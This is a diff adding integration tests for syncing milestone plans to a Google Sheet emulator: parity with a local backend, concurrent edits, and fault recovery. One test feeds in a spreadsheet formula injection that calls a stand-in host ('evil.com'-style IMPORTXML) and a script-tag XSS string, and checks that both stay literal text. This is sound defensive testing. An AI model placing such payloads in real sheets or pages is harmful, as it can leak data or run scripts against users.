@@ -1,0 +1,206 @@
+/**
+ * Applying plans to a Google Sheet through the real googleapis client, against the Workspace
+ * emulator: the same result as the local backend, nothing written twice, no cell written into
+ * the wrong milestone while people edit, and faults that change nothing in the end.
+ */
+import * as fs from 'node:fs';
+import * as path from 'node:path';
+import { afterEach, beforeAll, describe, expect, it } from 'vitest';
+import { initWorkspace } from '../../src/cli/commands/init';
+import { planSync } from '../../src/core/cycle';
+import type { Snapshot } from '../../src/core/types';
+import { readGoogle, runGoogle } from '../../src/google/backend';
+import { runLocal } from '../../src/local/backend';
+import { readResponses } from '../../src/local/responses';
+import { readWorkbook } from '../../src/local/workbook';
+import { sampleResponses, tempDir } from '../cli/helpers';
+import { type Emulator, startEmulator } from '../emulator/server';
+
+const NOW = '2026-12-01T12:00:00Z';
+const TABS = ['Milestones', 'Changes', 'Updates', 'Topics', 'Meetings'];
+
+let template: string;
+let expected: ReturnType<typeof normalised>;
+let emulators: Emulator[] = [];
+
+/** The tabs a sync changes, cell by cell (numbers to 1e-7 days: serial round trips). */
+function normalised(s: Snapshot) {
+  return s.tables
+    .filter((t) => TABS.includes(t.name))
+    .map((t) => ({
+      name: t.name,
+      rows: t.rows.map((r) => {
+        const row = r.map((c) => (c === '' ? null : typeof c === 'number' ? Math.round(c * 1e7) / 1e7 : c));
+        while (row.length && row[row.length - 1] === null) row.pop();
+        return row;
+      }),
+    }));
+}
+
+async function responses() {
+  return (await readResponses(path.join(template, 'responses.jsonl'))).raw;
+}
+
+async function google(opts: Parameters<typeof startEmulator>[0] = {}) {
+  const emulator = await startEmulator({ quotaPerMinute: false, ...opts });
+  emulators.push(emulator);
+  const id = await emulator.seedFromWorkbook(path.join(template, 'register.xlsx'));
+  const env = { MILEPOST_GOOGLE_API_ROOT: emulator.apiRoot };
+  const raw = await responses();
+  const sync = () => runGoogle(id, (snapshot) => planSync(snapshot, raw, NOW), env);
+  const state = async () => normalised((await readGoogle(id, env)).snapshot);
+  return { emulator, id, env, sync, state };
+}
+
+beforeAll(async () => {
+  template = tempDir('apply');
+  await initWorkspace(template, { sample: true });
+  fs.writeFileSync(path.join(template, 'responses.jsonl'), sampleResponses());
+  // The local backend's result on the same register, responses and clock.
+  const local = tempDir('apply-local');
+  fs.cpSync(template, local, { recursive: true });
+  await runLocal(local, 'sync', NOW, (read) => planSync(read.snapshot, read.responses, NOW));
+  expected = normalised((await readWorkbook(path.join(local, 'register.xlsx'))).snapshot);
+});
+
+afterEach(async () => {
+  await Promise.all(emulators.map((e) => e.close()));
+  emulators = [];
+});
+
+describe('sync on a Google Sheet', () => {
+  it('changes the Sheet exactly as the local backend changes the workbook (parity)', async () => {
+    const g = await google();
+    const run = await g.sync();
+    expect(run.result.conflicts).toEqual([]);
+    expect(run.result.writes).toBeGreaterThan(0);
+    expect(await g.state()).toEqual(expected);
+  });
+
+  it('makes a constant number of calls, and a second run writes nothing', async () => {
+    const g = await google();
+    await g.sync();
+    const calls = g.emulator.log.length;
+    // read (2) + metadata search + tag rows + check read + write + one append per tab.
+    expect(calls).toBeLessThanOrEqual(2 + 1 + 1 + 1 + 1 + 4);
+    const again = await g.sync();
+    expect(again.result).toMatchObject({ writes: 0, appends: 0, conflicts: [] });
+    expect(g.emulator.log.slice(calls).filter((e) => e.kind === 'write')).toEqual([]);
+    expect(await g.state()).toEqual(expected);
+  });
+
+  it('keeps text literal: formulas and HTML stay text in the Sheet', async () => {
+    const g = await google();
+    const raw = [
+      {
+        where: 'test',
+        value: {
+          responseId: 'lit',
+          submittedAt: '2026-12-01T08:00:00Z',
+          email: 'priya.shah@northwind.example',
+          statuses: { 'M-0006': 'Might miss' },
+          wins: '=IMPORTXML("http://evil.example","//a")',
+          learnings: '<script>alert(1)</script>',
+          helpNeeded: '+1 more designer',
+        },
+      },
+    ];
+    await runGoogle(g.id, (s) => planSync(s, raw, NOW), g.env);
+    const updates = g.emulator.values(g.id, 'Updates', 'FORMULA');
+    const row = updates.find((r) => r.includes('lit'))!;
+    expect(row).toContain('=IMPORTXML("http://evil.example","//a")');
+    expect(row).toContain('<script>alert(1)</script>');
+    expect(row).toContain('+1 more designer');
+    const dump = JSON.stringify(g.emulator.dump().spreadsheets);
+    expect(dump).not.toMatch(/"formula"\s*:\s*"=IMPORTXML/);
+  });
+});
+
+describe('people editing the Sheet while a sync runs', () => {
+  const byId = (s: ReturnType<typeof normalised>) =>
+    new Map(
+      s
+        .find((t) => t.name === 'Milestones')!
+        .rows.filter((r) => r[0])
+        .map((r) => [String(r[0]), r]),
+    );
+  for (const [what, edit] of [
+    ['sort the milestones by title', { op: 'sortRows', sheet: 'Milestones', by: 'Milestone' }],
+    ['sort them descending by owner', { op: 'sortRows', sheet: 'Milestones', by: 'Owner', descending: true }],
+    ['insert three rows near the top', { op: 'insertRows', sheet: 'Milestones', at: 3, count: 3 }],
+    ['delete a row', { op: 'deleteRows', sheet: 'Milestones', at: 20, count: 1 }],
+  ] as const) {
+    it(`${what} before any call after the read: no cell ever lands in another milestone`, async () => {
+      const original = byId(normalised((await readWorkbook(path.join(template, 'register.xlsx'))).snapshot));
+      const want = byId(expected);
+      // Calls 1–2 read the snapshot; the edit comes before call 3, 4, 5 or 6 in turn.
+      for (const n of [3, 4, 5, 6]) {
+        const g = await google();
+        g.emulator.editBefore(n, edit as never);
+        const first = await g.sync();
+        // Every row is either untouched or exactly what the sync meant for that milestone.
+        for (const [id, row] of byId(await g.state())) {
+          expect([original.get(id), want.get(id)], `${id} after an edit before call ${n}`).toContainEqual(
+            row,
+          );
+        }
+        // Rows it could not place safely were reported, and the next run completes them.
+        if (first.result.conflicts.length) await g.sync();
+        for (const [id, row] of byId(await g.state())) expect(row, `${id}, call ${n}`).toEqual(want.get(id));
+        await g.emulator.close();
+      }
+    });
+  }
+
+  it('reports a milestone whose owned cell a person changed meanwhile, and leaves it as they set it', async () => {
+    const g = await google();
+    // M-0003's Forecast is written by this sync (Marcus moves it); a person edits it first.
+    const rows = g.emulator.values(g.id, 'Milestones');
+    const header = rows[0]!;
+    const r = rows.findIndex((x) => x[0] === 'M-0003') + 1;
+    const col = String.fromCharCode(65 + header.indexOf('Forecast'));
+    g.emulator.editBefore(3, {
+      op: 'set',
+      sheet: 'Milestones',
+      a1: `${col}${r}`,
+      value: '2027-02-01',
+    } as never);
+    const run = await g.sync();
+    expect(run.result.conflicts.map((c) => [c.tab, c.value, c.column])).toEqual([
+      ['Milestones', 'M-0003', 'Forecast'],
+    ]);
+    expect(run.result.conflicts[0]!.message).toMatch(/Forecast was changed by someone since it was read/);
+    const after = g.emulator.values(g.id, 'Milestones', 'FORMATTED_VALUE');
+    expect(after.find((x) => x[0] === 'M-0003')![header.indexOf('Forecast')]).toBe('2027-02-01');
+  });
+});
+
+describe('faults', () => {
+  it('with each call failing once in turn (503), the final state equals the fault-free run', async () => {
+    const clean = await google();
+    await clean.sync();
+    const calls = clean.emulator.log.length;
+    for (let n = 1; n <= calls; n++) {
+      const g = await google();
+      g.emulator.fail({ status: 503, onCall: n });
+      // A run that stops on a call it may not repeat is simply run again, as the next
+      // scheduled run would.
+      await g.sync().catch(() => g.sync());
+      expect(await g.state(), `503 on call ${n}`).toEqual(expected);
+      await g.emulator.close();
+    }
+  });
+
+  it('when a call is carried out but its answer is lost, re-running gives the same final state', async () => {
+    const clean = await google();
+    await clean.sync();
+    const calls = clean.emulator.log.length;
+    for (let n = 1; n <= calls; n++) {
+      const g = await google();
+      g.emulator.dropConnection({ onCall: n, afterApply: true });
+      await g.sync().catch(() => g.sync());
+      expect(await g.state(), `lost answer on call ${n}`).toEqual(expected);
+      await g.emulator.close();
+    }
+  });
+});
